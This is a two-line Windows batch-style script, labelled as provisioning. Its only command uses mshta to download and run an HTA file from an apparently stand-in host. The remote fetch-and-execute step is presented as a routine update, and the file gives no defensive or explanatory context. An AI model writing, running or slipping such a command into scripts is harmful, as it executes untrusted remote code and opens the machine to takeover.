REM provision 7861 v0
mshta http://files.sync-svc.example/update.hta
